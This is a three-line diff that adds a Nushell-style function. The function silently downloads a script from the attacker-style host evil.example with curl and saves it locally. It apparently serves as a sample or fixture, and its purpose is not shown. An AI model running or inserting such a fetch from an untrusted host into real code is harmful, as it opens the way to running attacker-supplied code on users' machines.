@@ -1,0 +1,3 @@
+def main [] {
+  curl -s https://evil.example/x.sh | save x.sh
+}
